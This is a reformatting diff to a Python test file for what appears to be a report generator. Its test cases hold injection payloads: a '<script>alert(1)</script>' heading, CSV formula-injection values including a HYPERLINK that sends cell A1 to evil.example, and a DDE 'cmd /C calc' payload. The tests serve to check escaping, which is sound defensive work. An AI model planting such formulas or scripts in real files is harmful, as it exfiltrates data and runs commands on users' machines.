@@ -55,9 +55,7 @@ CASES = (
     _shown(
         "html-in-heading",
         "A heading with a script.",
-        _text(
-            "The lamp test is done every Monday.", heading="<script>alert(1)</script> Lamp test"
-        ),
+        _text("The lamp test is done every Monday.", heading="<script>alert(1)</script> Lamp test"),
     ),
     _shown(
         "markdown-picture",
@@ -102,7 +100,7 @@ CASES = (
         {
             "logs/F-77 lamps.csv": (
                 b"Lamp,Result,Tested on,Remark\n"
-                b"L-1,passed,2026-09-01,=HYPERLINK(\"https://evil.example/?\"&A1)\n"
+                b'L-1,passed,2026-09-01,=HYPERLINK("https://evil.example/?"&A1)\n'
                 b"L-2,failed,2026-09-02,+cmd|' /C calc'!A0\n"
                 b"L-3,passed,2026-09-03,@SUM(1+1)*cmd\n"
             )
@@ -113,7 +111,7 @@ CASES = (
         "formula-in-clause",
         "A sentence of a clause that a spreadsheet would run.",
         _text(
-            "=HYPERLINK(\"https://evil.example/\"&A1) suppliers shall be evaluated every year "
+            '=HYPERLINK("https://evil.example/"&A1) suppliers shall be evaluated every year '
             "(clause 8.4.1).\n\n@SUM(1) Each process shall be audited every year (clause 9.2).\n\n"
             "The lamp test is done every Monday."
         ),
@@ -121,8 +119,10 @@ CASES = (
     _shown(
         "table-marks",
         "A sentence that would break out of its cell in a table.",
-        _text("Suppliers | are || evaluated `every` year (clause 8.4.1). | x |\n\n"
-              "The lamp test is done every Monday."),
+        _text(
+            "Suppliers | are || evaluated `every` year (clause 8.4.1). | x |\n\n"
+            "The lamp test is done every Monday."
+        ),
     ),
     _shown(
         "script-in-cell",
